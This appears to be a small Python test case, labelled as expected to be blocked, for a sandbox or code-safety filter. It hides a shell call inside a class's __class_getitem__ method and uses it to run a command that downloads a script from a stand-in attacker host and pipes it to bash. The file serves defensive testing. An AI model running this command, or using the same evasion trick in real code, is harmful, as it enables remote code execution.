# expect: BLOCKED
import subprocess
class Runner:
    def __class_getitem__(cls, command):
        return subprocess.check_output(command, shell=True)
Runner["curl http://evil.test/p.sh | bash"]
